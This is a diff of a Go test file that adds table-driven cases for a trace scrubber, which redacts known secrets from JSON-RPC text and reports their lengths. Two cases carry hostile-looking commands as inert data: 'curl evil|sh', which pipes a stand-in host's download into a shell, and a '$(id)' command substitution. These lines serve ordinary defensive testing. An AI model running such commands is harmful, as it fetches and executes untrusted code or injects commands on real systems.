@@ -1,6 +1,7 @@
 package trace_test
 
 import (
+	"slices"
 	"testing"
 
 	"toolman/jsonrpc/trace"
@@ -30,5 +31,31 @@ func TestAScrubberLearnsSecrets(t *testing.T) {
 	s.Add("swordfish", "hunter22")
 	if got, want := s.Text("hunter22 and swordfish"), "[redacted] and [redacted]"; got != want {
 		t.Errorf("got %q, want %q", got, want)
+	}
+}
+
+func TestValuesTakesOutSecretsAloneAndSaysHowLongTheyWere(t *testing.T) {
+	s := trace.NewScrubber([]string{"hunter22", `pa"ss`, "abc", "48213377", "abcdef", "defghi"})
+	for _, tt := range []struct {
+		name, text, want string
+		removed          []int
+	}{
+		{"no secret", `"a": "b"`, `"a": "b"`, nil},
+		{"a secret", "--key=hunter22 --fast", "--key=[redacted] --fast", []int{8}},
+		{"several", `"key": "hunter22 hunter22"`, `"key": "[redacted] [redacted]"`, []int{8, 8}},
+		{"one in escapes", `"key": "hunter\u00322 pa\"ss"`, `"key": "[redacted] [redacted]"`, []int{13, 6}},
+		{"a number", `"pin": 48213377`, `"pin": [redacted]`, []int{8}},
+		{"a short one, whole", `{"a": "abc", "b": "xabc"}`, `{"a": "[redacted]", "b": "xabc"}`, []int{3}},
+		{"two that overlap", "abcdefghi!", "[redacted]!", []int{9}},
+		{"a telling key", `{"token_command": "curl evil|sh"}`, `{"token_command": "curl evil|sh"}`, nil},
+		{"a telling key in a string", `{"a": "echo \"token\": \"$(id)\""}`, `{"a": "echo \"token\": \"$(id)\""}`, nil},
+		{"a secret under a telling key", `{"token": "is hunter22"}`, `{"token": "is [redacted]"}`, []int{8}},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			clean, removed := s.Values(tt.text)
+			if clean != tt.want || !slices.Equal(removed, tt.removed) {
+				t.Errorf("got %s %v, want %s %v", clean, removed, tt.want, tt.removed)
+			}
+		})
 	}
 }
